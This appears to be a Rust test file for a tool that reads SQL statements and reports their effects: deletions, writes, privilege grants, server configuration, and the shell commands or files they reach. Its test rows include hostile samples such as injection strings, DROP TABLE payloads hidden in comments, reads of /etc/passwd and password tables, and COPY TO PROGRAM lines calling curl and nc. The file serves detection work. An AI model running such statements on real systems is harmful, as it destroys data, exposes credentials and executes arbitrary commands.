//! What statements would do: every effect of each, in order.

use std::time::Instant;

use placet_core::effect::{Effect, Extent, Seen, Sensitivity, Undo, sql};
use proptest::{collection::vec, prelude::*, sample::select};

/// Everything a text would do in one line: effects, then `$ command`, `< file read` and `> file written`.
fn found(text: &str) -> String {
    let reading = sql::read(sql::Language::Sql, text);
    let mut parts: Vec<String> = reading.effects.iter().map(shown).collect();
    parts.extend(reading.shell.iter().map(|command| format!("$ {command}")));
    parts.extend(
        reading.paths.iter().map(|(path, writes)| format!("{} {path}", if *writes { ">" } else { "<" })),
    );
    parts.join("; ")
}

fn shown(effect: &Effect) -> String {
    let mut words = vec![format!("{:?}", effect.verb).to_lowercase()];
    words.extend((!effect.target.name.is_empty()).then(|| effect.target.name.clone()));
    words.extend((effect.undo == Undo::Impossible).then(|| "lost".to_owned()));
    words.extend(match effect.extent {
        Extent::One => None,
        Extent::Several => Some("several".to_owned()),
        Extent::Unbounded => Some("all".to_owned()),
    });
    if effect.target.sensitivity != Sensitivity::None {
        words.push(format!("{:?}", effect.target.sensitivity).to_lowercase());
    }
    words.extend((effect.seen != Seen::Certain).then(|| "?".to_owned()));
    words.join(" ")
}

/// Checks rows of `statement => everything it does`. `⏎` is the end of a line.
fn check(rows: &str) {
    let mut wrong = Vec::new();
    for row in rows.lines().map(str::trim).filter(|row| !row.is_empty()) {
        let (text, expected) = row.rsplit_once(" => ").expect("a row has two columns");
        let seen = found(&text.trim().replace('⏎', "\n"));
        if seen != expected.trim() {
            wrong.push(format!("{text}\n    expected {}\n    found    {seen}", expected.trim()));
        }
    }
    assert!(wrong.is_empty(), "{} rows\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn reading_is_only_reading() {
    check(
        r#"
        SELECT 1 => read
        SELECT * FROM orders => read orders
        SELECT * FROM shop.orders o JOIN users u ON u.id = o.user_id => read shop.orders; read users
        SELECT 'DROP TABLE users; DELETE FROM x' FROM t => read t
        SELECT 1 -- DROP TABLE users => read
        SELECT 1 /* ; DROP TABLE users */ => read
        SELECT "drop" FROM "delete" => read delete
        SELECT count(*) FROM (SELECT id FROM users WHERE age > 3) x => read users
        WITH recent AS (SELECT * FROM orders) SELECT * FROM recent => read orders; read recent
        SELECT * FROM users FOR UPDATE => read users
        SELECT replace(name, 'a', 'b') FROM users => read users
        SELECT deleted, updated_at FROM posts => read posts
        SHOW TABLES => read
        DESCRIBE users => read users
        EXPLAIN DELETE FROM users => read
        EXPLAIN SELECT * FROM users => read
        EXPLAIN ANALYZE SELECT * FROM users => read users
        PRAGMA table_info(users) => read
        BEGIN; SELECT * FROM users; COMMIT => read; read users; read
        VALUES (1, 2), (3, 4) => read
        SELECT date_trunc('day', created_at)::date, sum(total) FROM orders GROUP BY 1 => read orders
        "#,
    );
}

#[test]
fn a_condition_makes_the_difference() {
    check(
        r"
        DELETE FROM users => delete users lost all
        DELETE FROM users WHERE id = 3 => delete users several
        DELETE FROM users WHERE id = $1 => delete users several
        DELETE FROM users WHERE 1=1 => delete users lost all
        DELETE FROM users WHERE 1 => delete users lost all
        DELETE FROM users WHERE TRUE => delete users lost all
        DELETE FROM users WHERE 'a'='a' => delete users lost all
        DELETE FROM users WHERE id=id => delete users lost all
        DELETE FROM users WHERE users.id = users.id => delete users lost all
        DELETE FROM users WHERE name = 'x' OR 1=1 => delete users lost all
        DELETE FROM users WHERE (name = 'x' OR (2 > 1)) => delete users lost all
        DELETE FROM users WHERE NOT FALSE => delete users lost all
        DELETE FROM users WHERE NOT (1 = 2) => delete users lost all
        DELETE FROM users WHERE 1 IN (1, 2) => delete users lost all
        DELETE FROM users WHERE 2 BETWEEN 1 AND 3 => delete users lost all
        DELETE FROM users WHERE 1 + 1 = 2 => delete users lost all
        DELETE FROM users WHERE name LIKE '%' => delete users lost all
        DELETE FROM users WHERE id IS NOT NULL => delete users lost all
        DELETE FROM users WHERE id > 0 => delete users lost all
        DELETE FROM users WHERE EXISTS (SELECT 1) => delete users lost all
        DELETE FROM users WHERE 1 = 2 => delete users several
        DELETE FROM users WHERE name = 'x' AND 1=1 => delete users several
        DELETE FROM users WHERE age > 0 => delete users several
        DELETE FROM users WHERE id IN (SELECT user_id FROM banned) => delete users several; read banned
        DELETE FROM users LIMIT 10 => delete users several
        DELETE FROM users -- WHERE id = 1 => delete users lost all
        DELETE FROM users /* WHERE id = 1 */ => delete users lost all
        DELETE u FROM users u JOIN banned b ON b.id = u.id WHERE b.old => delete u several; read users; read banned
        DELETE TOP (5) FROM users WHERE id = 1 => delete users several ?
        UPDATE users SET admin = true => write users lost all
        UPDATE users SET admin = true WHERE id = 1 => write users several
        UPDATE users SET admin = true WHERE 1=1 => write users lost all
        UPDATE users SET a = 'WHERE id = 1' => write users lost all
        UPDATE a SET x = b.x FROM b WHERE a.id = b.id => write a several; read b
        ",
    );
}

#[test]
fn what_changes_says_what_it_changes() {
    check(
        r#"
        INSERT INTO orders (id) VALUES (1) => write orders
        INSERT INTO orders SELECT * FROM old_orders => write orders; read old_orders
        INSERT INTO t VALUES ('DROP TABLE x') ON CONFLICT DO NOTHING => write t
        REPLACE INTO t VALUES (1) => write t
        INSERT OVERWRITE TABLE t SELECT * FROM s => write t lost all; read s
        WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone => delete users lost all
        WITH x AS (SELECT 1) UPDATE users SET a = 1 => write users lost all
        EXPLAIN ANALYZE DELETE FROM users => delete users lost all
        EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users WHERE id = 1 => delete users several
        MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE => delete a lost several; read b
        MERGE INTO a USING b ON 1=1 WHEN MATCHED THEN DELETE => delete a lost all; read b
        MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN UPDATE SET x = 1 => write a several; read b
        TRUNCATE users => delete users lost all
        TRUNCATE TABLE users, orders CASCADE => delete users lost all; delete orders lost all
        DROP TABLE users => delete users lost
        DROP TABLE IF EXISTS a, b CASCADE => delete a lost; delete b lost
        DROP TABLE "Users" => delete Users lost
        DROP DATABASE shop => delete shop lost all
        DROP SCHEMA public CASCADE => delete public lost all
        DROP VIEW v => delete v lost
        DROP FUNCTION f(int) => delete f lost
        DROP USER ann => delete ann lost
        DROP OWNED BY ann => delete ann lost all ?
        CREATE TABLE t (id int) => write t
        CREATE TABLE t AS SELECT * FROM users => write t; read users
        CREATE OR REPLACE TABLE t (id int) => write t lost all
        CREATE INDEX i ON t (a) => write i
        CREATE VIEW v AS SELECT * FROM t => write v
        SELECT * INTO backup FROM users => write backup; read users
        ALTER TABLE users DROP COLUMN name => delete users lost
        ALTER TABLE users ADD COLUMN name text => write users
        ALTER TABLE users RENAME TO people => write users
        ALTER TABLE users DISABLE TRIGGER ALL => configure users system
        ALTER TABLE users DISABLE ROW LEVEL SECURITY => configure users system
        ALTER TABLE users DROP CONSTRAINT c => configure users system
        ALTER TABLE users ALTER COLUMN a DROP DEFAULT => write users
        ALTER TABLE users OWNER TO mallory => grant mallory
        IF EXISTS (SELECT 1) DROP TABLE users => delete users lost
        SET NOCOUNT ON⏎DELETE FROM users => configure a setting of the database; delete users lost all
        USE shop⏎DROP TABLE users => read ?; delete users lost ?
        "#,
    );
}

#[test]
fn authority_and_the_server_are_seen() {
    check(
        r"
        CREATE USER ann WITH PASSWORD 'x' => grant ann
        CREATE ROLE admin SUPERUSER => grant admin
        CREATE LOGIN ann WITH PASSWORD = 'x' => grant ann
        ALTER USER ann WITH SUPERUSER => grant ann
        ALTER ROLE ann CREATEDB => grant ann
        GRANT ALL ON users TO ann => grant ann
        GRANT SELECT ON ALL TABLES IN SCHEMA public TO readers => grant readers
        REVOKE ALL ON users FROM ann => grant ann
        REVOKE SELECT ON users FROM ann => configure ann
        UPDATE mysql.user SET plugin = '' WHERE user = 'root' => write mysql.user several; grant a user of the database
        SELECT * FROM pg_shadow => read pg_shadow credential
        SELECT rolname, rolpassword FROM pg_catalog.pg_authid => read pg_catalog.pg_authid credential
        SELECT user, authentication_string FROM mysql.user => read mysql.user credential
        SELECT name FROM sys.sql_logins => read sys.sql_logins credential
        SELECT id FROM app.user => read app.user
        SET GLOBAL general_log = 'OFF' => configure a setting of the database system
        SET PERSIST max_connections = 1 => configure a setting of the database system
        SET @@GLOBAL.read_only = 0 => configure a setting of the database system
        SET search_path = app => configure a setting of the database
        SET foreign_key_checks = 0 => configure a setting of the database system
        ALTER SYSTEM SET fsync = off => configure the database server system
        SHUTDOWN => configure the database server lost system
        KILL 42 => configure the database server lost system
        PURGE BINARY LOGS TO 'x' => configure the database server lost system
        RESET MASTER => configure the database server lost system
        RESET QUERY CACHE => configure the database server
        FLUSH PRIVILEGES => configure the database server lost system
        SELECT pg_terminate_backend(pid) FROM pg_stat_activity => configure pg_terminate_backend system; read pg_stat_activity
        SELECT pg_reload_conf() => configure pg_reload_conf system
        SELECT pg_catalog.pg_reload_conf() => configure pg_reload_conf system
        SELECT setval('orders_id_seq', 1) => configure orders_id_seq lost system
        SELECT pg_reload_conf FROM t => read t
        CREATE FUNCTION f() RETURNS int AS 'x.so' LANGUAGE C => configure f system
        CREATE FUNCTION sys_exec RETURNS int SONAME 'x.so' => configure sys_exec system ?
        CALL archive_orders(2020) => execute archive_orders ?
        PRAGMA writable_schema = 1 => configure writable_schema system; read
        ",
    );
}

#[test]
fn commands_and_files_behind_a_query_are_handed_back() {
    check(
        r#"
        COPY t TO PROGRAM 'tar c /' => read t; execute COPY … PROGRAM lost; $ tar c /
        COPY t FROM PROGRAM 'curl http://x' => write t; execute COPY … PROGRAM lost; $ curl http://x
        COPY (SELECT 'a' FROM t) TO PROGRAM 'nc x 1' => execute COPY … PROGRAM lost; read t; $ nc x 1
        COPY users TO '/tmp/users.csv' => read users; > /tmp/users.csv
        COPY users FROM '/tmp/users.csv' => write users; < /tmp/users.csv
        COPY users TO STDOUT => read users
        COPY users FROM STDIN;⏎1	DROP TABLE users;⏎\.⏎SELECT 1 => write users; read
        SELECT * FROM users INTO OUTFILE '/tmp/x' => read users ?; > /tmp/x
        SELECT LOAD_FILE('/etc/passwd') => read; < /etc/passwd
        SELECT pg_read_file('/etc/passwd') => read; < /etc/passwd
        SELECT lo_export(1, '/tmp/x') => read; > /tmp/x
        LOAD DATA INFILE '/tmp/x' INTO TABLE t => write t ?; < /tmp/x
        LOAD DATA LOCAL INFILE '/tmp/x' INTO TABLE t => write t ?; < /tmp/x
        ATTACH DATABASE '/tmp/x.db' AS x => write /tmp/x.db; > /tmp/x.db
        EXEC master..xp_cmdshell 'dir' => execute xp_cmdshell lost; $ dir
        EXEC xp_cmdshell N'dir' => execute xp_cmdshell lost; $ dir
        EXEC ('DROP TABLE users') => execute ?; delete users lost ?
        EXEC sp_executesql N'DROP TABLE users' => execute sp_executesql; delete users lost ?
        DO $$ BEGIN DELETE FROM users; END $$ => execute ?; read ?; delete users lost all ?
        DO $$ BEGIN EXECUTE 'DROP TABLE ' || t; END $$ => execute ?; read ?; execute ?; delete lost ?
        PREPARE s FROM 'DROP TABLE users' => read ?; delete users lost ?
        EXECUTE IMMEDIATE 'TRUNCATE users' => execute IMMEDIATE ?; delete users lost all ?
        SELECT dblink_exec('dbname=x', 'DROP TABLE users') => execute dblink_exec; delete users lost ?
        \! uptime => $ uptime
        \copy users to '/tmp/x' csv => read users; > /tmp/x
        \copy users from '/tmp/x' csv => write users; < /tmp/x
        \copy users to program 'nc x 1' => read users; $ nc x 1
        \o /tmp/x => > /tmp/x
        \o |sh => $ sh
        \i setup.sql => execute setup.sql ?
        SELECT format('DROP TABLE %I', t) FROM x \gexec => read x; execute statements made by a query lost ?
        SELECT 1 \! uptime => read; $ uptime
        SELECT * FROM users \g /tmp/x => read users; > /tmp/x
        .shell uptime => $ uptime
        .output /tmp/x => > /tmp/x
        .import |uptime t => write t; $ uptime
        SELECT 'a⏎.shell uptime⏎' => read
        SELECT '⏎\! uptime⏎' => read
        "#,
    );
}

#[test]
fn nothing_hides_behind_quotes_and_comments() {
    check(
        r#"
        SELECT 1; DROP TABLE users => read; delete users lost
        ;;; DROP TABLE users ;;; => delete users lost
        /*!50000 DROP TABLE users */ => delete users lost
        /*! DROP */ /*! TABLE */ users => delete users lost
        SELECT 1 /*!; DROP TABLE users */ => read; delete users lost
        DROP/**/TABLE/**/users => delete users lost
        SELECT '\'; DROP TABLE users; --' => read; delete users lost
        SELECT 'it\'s'; DROP TABLE users => read; delete users lost
        SELECT E'it\'s; DROP TABLE x' => read
        SELECT "\"; DROP TABLE users; --" => read; delete users lost
        SELECT 5--1; DROP TABLE users => read; delete users lost ?
        SELECT $$; DROP TABLE users; $$ => read; delete users lost ?
        /* /* */ DROP TABLE users; -- */ */ => delete users lost ?
        SELECT 1 # DROP TABLE users => read
        dRoP tAbLe users => delete users lost
        DROP TABLE users; SELECT ' => delete users lost; read ?
        "#,
    );
}

#[test]
fn what_nobody_understands_is_opaque() {
    check(
        r"
        FROBNICATE THE users => opaque ?
        DELETE FROM users WHERE (( => delete users lost all ?
        DELETE users THEN SOMETHING ELSE => delete users lost all ?
        ",
    );
    let long = format!("SELECT 1; {}", " ".repeat(300 * 1024));
    assert!(found(&long).contains("opaque"), "a text that was not read to its end is not known");
    assert!(found(&"DELETE FROM a WHERE b = 1; ".repeat(5_000)).contains("opaque"));
    let padded = format!("{}DROP TABLE users", "INSERT INTO t VALUES (1, 'a'); ".repeat(1_900));
    assert!(found(&padded).contains("delete users lost"), "padding hides nothing");
}

#[test]
fn depth_does_not_overflow_the_stack() {
    for (open, middle, close) in [
        ("(", "1", ")"),
        ("SELECT (", "1", ")"),
        ("SELECT * FROM (", "t", ")"),
        ("WITH a AS (", "SELECT 1", ")"),
        ("NOT ", "1", ""),
        ("- ", "1", ""),
        ("a + ", "1", ""),
        ("a OR ", "1", ""),
        ("a = 1 AND ", "1", ""),
        ("a::int + ", "1", ""),
        ("SELECT 1 UNION ", "SELECT 1", ""),
        ("CASE WHEN a THEN ", "1", " END"),
        ("f(", "1", ")"),
        ("[", "1", "]"),
        ("ARRAY[", "1", "]"),
        ("{a:", "1", "}"),
        ("a IS NULL ", "", ""),
        ("a JOIN ", "b", ""),
        ("EXPLAIN ", "SELECT 1", ""),
        ("IF a THEN ", "SELECT 1", ""),
        ("BEGIN ", "SELECT 1", ""),
        ("INTERVAL ", "1", ""),
        ("a::int", "", "::int"),
        ("a[1]", "", "[1]"),
        ("a.b", "", ".b"),
        ("a COLLATE b ", "", " COLLATE b"),
        ("a AT TIME ZONE b ", "", " AT TIME ZONE b"),
        ("ARRAY<", "INT", ">"),
        ("DATE ", "1", ""),
        ("PRIOR ", "1", ""),
        ("~ ", "1", ""),
        ("! ", "1", ""),
        ("DISTINCT ", "1", ""),
        ("EXISTS (", "1", ")"),
        ("LATERAL (", "1", ")"),
        ("a -> ", "1", ""),
        ("f(a => ", "1", ")"),
    ] {
        for count in [10, 30, 60, 150, 199, 1_000, 10_000] {
            let inside = format!("{}{middle}{}", open.repeat(count), close.repeat(count));
            for start in [
                "",
                "DELETE FROM t WHERE ",
                "INSERT INTO t SELECT ",
                "UPDATE t SET a = ",
                "CREATE TABLE t (a ",
            ] {
                let begun = Instant::now();
                sql::read(sql::Language::Sql, &format!("{start}{inside}"));
                let took = begun.elapsed();
                assert!(took.as_secs() < 4, "{start}{open} {count} times took {took:?}");
            }
        }
    }
}

fn fragment() -> impl Strategy<Value = &'static str> {
    select(vec![
        "SELECT ",
        "DELETE ",
        "FROM ",
        "WHERE ",
        "UPDATE ",
        "SET ",
        "INSERT INTO ",
        "VALUES ",
        "DROP ",
        "TABLE ",
        "ALTER ",
        "CREATE ",
        "MERGE ",
        "USING ",
        "WITH ",
        "AS ",
        "COPY ",
        "PROGRAM ",
        "EXEC ",
        "DO ",
        "GRANT ",
        "EXPLAIN ",
        "ANALYZE ",
        "t ",
        "a ",
        "1 ",
        "'",
        "\"",
        "`",
        "[",
        "]",
        "(",
        ")",
        ",",
        ";",
        "\n",
        "--",
        "#",
        "/*",
        "*/",
        "/*!",
        "$$",
        "$a$",
        "\\",
        "\\!",
        ".shell ",
        "=",
        "<",
        "::",
        "||",
        "é",
        "\u{1a}",
        "\u{0}",
        "E'",
        "N'",
        "@",
        "%",
        "OR ",
        "NOT ",
        "CASE ",
        "END ",
        "IN ",
        "BEGIN ",
        "IF ",
        "UNION ",
        "JOIN ",
        "ON ",
        "INTO ",
        "OUTFILE ",
        "xp_cmdshell ",
        "load_file(",
        "setval(",
        "mysql.user ",
        "DECLARE ",
        "LOOP ",
    ])
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn no_statement_panics(fragments in vec(fragment(), 0..40)) {
        let text = fragments.concat();
        sql::looks_like(&text);
        sql::read(sql::Language::Sql, &text);
    }

    #[test]
    fn a_drop_is_found_behind_any_statement_that_ends(fragments in vec(fragment(), 0..12)) {
        // Whatever opens a text, a comment or a client's command may swallow what follows.
        let quotes = ['\'', '"', '`', '\\', '$', '#', '[', '/', '*', '-', '\u{0}'];
        let plain = |fragment: &&str| !fragment.contains(quotes) && !fragment.starts_with('.');
        let before: String = fragments.iter().copied().filter(|fragment| plain(fragment)).collect();
        let text = format!("{before};\nDROP TABLE users;");
        prop_assert!(found(&text).contains("delete users lost"), "{}", found(&text));
    }
}
